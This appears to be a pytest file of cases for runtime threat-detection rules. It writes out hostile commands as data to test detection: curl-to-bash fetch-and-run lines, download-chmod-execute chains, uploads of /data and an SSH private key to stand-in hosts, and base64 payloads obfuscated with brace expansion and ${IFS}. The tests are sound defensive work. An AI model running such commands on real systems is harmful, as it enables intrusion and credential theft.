"""Downloads, encoded payloads, data that leaves."""

from __future__ import annotations

import pytest
from seawall.domain.runtime_events import FileChmod

from tests.detection.runtime_events import BUILD, HOST, Case, Cases, event, moved, raised, ran, rows, wrote

CASES: Cases = {
    "RT-0401": (
        [ran("curl http://bashgo.pw/x"), ran("wget http://192.0.2.66/x")],
        [ran("curl http://bashgo.pw.example/x"), ran("ping bashgo.pw")],
    ),
    "RT-0402": (
        [
            ran("curl http://198.51.100.7/a.sh"),
            ran("curl https://0x0.st/abc"),
            ran("wget -O /tmp/x https://d.example/x"),
            ran("wget https://d.example/x", cwd="/tmp"),
        ],
        [
            ran("curl http://10.0.0.7/a.sh"),
            ran("wget -O /opt/x https://d.example/x"),
            ran("wget -O /dev/null https://d.example/x"),
            ran("curl -o /tmp/x https://d.example/x", where=BUILD),
        ],
    ),
    "RT-0403": (
        [
            ran("sh -c 'curl -s https://d.example/i.sh | bash'"),
            ran("bash -c 'wget -q https://d.example/x; chmod +x x; ./x'"),
            ran("bash -c 'bash <(curl -s https://d.example)'"),
            ran("bash -c '{curl,-s,https://d.example/i.sh}|{bash,-i}'"),
            ran("sh -c 'python3 -c \"import urllib.request as u;print(u.urlopen(1).read())\" | sh'"),
            ran("python -c 'import os,urllib.request as u;os.system(u.urlopen(\"http://d.example\").read())'"),
        ],
        [
            ran("sh -c 'curl -s https://d.example | jq .'"),
            ran("sh -c 'curl https://d.example/i.sh | bash'", where=BUILD),
            ran("sh -c 'curl -o x https://d.example; ls'"),
        ],
    ),
    "RT-0404": (
        [
            [ran("curl -o /tmp/xmr https://d.example/xmr"), ran("chmod +x /tmp/xmr", at=5)],
            [ran("wget https://d.example/agent", cwd="/tmp"), ran("chmod 755 agent", cwd="/tmp", at=5)],
        ],
        [
            [ran("curl -o /tmp/xmr https://d.example/xmr"), ran("chmod +x /tmp/other", at=5)],
            [ran("curl -o /tmp/x https://d.example/x"), ran("chmod 644 /tmp/x", at=5)],
            [ran("curl -o /opt/x https://d.example/x"), ran("chmod +x /opt/x", at=5)],
            [ran("curl -o /tmp/x https://d.example/x"), ran("chmod +x /tmp/x", at=2000)],
        ],
    ),
    "RT-0405": (
        [
            event(FileChmod, path="/dev/shm/x", mode=0o755, previous_mode=0o644),
            event(FileChmod, path="/tmp/.x", mode=0o755),
        ],
        [
            event(FileChmod, path="/dev/shm/x", mode=0o600),
            event(FileChmod, path="/dev/shm/x", mode=0o755, previous_mode=0o711),
            event(FileChmod, path="/opt/x", mode=0o755),
        ],
    ),
    "RT-0406": (
        [
            [ran("curl -o /srv/agent https://d.example/agent"), ran("/srv/agent", drift=True, at=9)],
            [
                ran("curl -o /srv/agent https://d.example/agent"),
                *[ran(f"true {number}", at=1) for number in range(200)],
                ran("/srv/agent", drift=True, at=9),
            ],
        ],
        [
            [ran("curl -o /srv/agent https://d.example/agent"), ran("/srv/other", drift=True, at=9)],
            [ran("curl -o x https://d.example/agent"), ran("/srv/agent", at=9)],
            [ran("curl -o /srv/agent https://d.example/agent"), ran("/srv/agent", drift=True, at=900)],
        ],
    ),
    "RT-0407": (
        [
            ran("apt-get install -y nmap"),
            ran("python -m pip install requests"),
            ran("apk add curl"),
            ran("node /usr/lib/npm-cli.js install x"),
        ],
        [
            ran("apt-get update"),
            ran("apt-get install -y nmap", where=BUILD),
            ran("apt-get install x", where=HOST),
            ran("pip list"),
        ],
    ),
    "RT-0408": (
        [
            ran("sh -c 'tar czf - /data | curl -T - https://e.example'"),
            ran("curl -F f=@/root/.ssh/id_rsa https://e.example"),
            ran("curl -d @x https://0x0.st"),
        ],
        [
            ran("tar czf - /data"),
            ran("curl -F f=@report.csv https://e.example"),
            ran("curl -T /tmp/a.tgz https://minio.svc"),
        ],
    ),
    "RT-0409": (
        [wrote("/usr/bin/ls"), moved("/usr/sbin/sshd"), wrote("/lib/ld-musl-x86_64.so.1")],
        [
            wrote("/usr/bin/ls", "dpkg -i x"),
            wrote("/usr/bin/ls", where=HOST),
            wrote("/opt/bin/ls"),
            wrote("/usr/lib/python3/x.pyc"),
            wrote("/usr/bin/ls", writes=False),
        ],
    ),
    "RT-0411": (
        [
            ran("sh -c 'echo f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAA | base64 -d > x'"),
            ran("python -c 'open(1).write(\"\\x7fELF\")'"),
        ],
        [ran("sh -c 'echo aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ= | base64 -d'"), ran("app f0VMR")],
    ),
    "RT-0412": (
        [
            ran("bash -c 'echo d2hvYW1pOyBpZDsgdW5hbWUgLWE= | base64 -d | sh'"),
            ran("python -c 'import base64;exec(base64.b64decode(\"cHJpbnQoMSk=\"))'"),
            ran("bash -c '{echo,d2hvYW1pOyBpZDsgdW5hbWUgLWE=}|{base64,-d}|{bash,-i}'"),
            ran("sh -c 'echo${IFS}d2hvYW1pOyBpZDsgdW5hbWUgLWE=|base64${IFS}-d|sh'"),
        ],
        [
            ran("bash -c 'echo d2hvYW1p | base64 -d > f'"),
            ran("sh -c 'cat key | base64 | tr -d x'"),
            ran("bash -c 'echo x | base64 -d | sh'", where=BUILD),
        ],
    ),
}


@pytest.mark.parametrize(("rule", "case", "fires"), rows(CASES))
def test_download(rule: str, case: Case, fires: bool) -> None:
    assert raised(rule, case) is fires
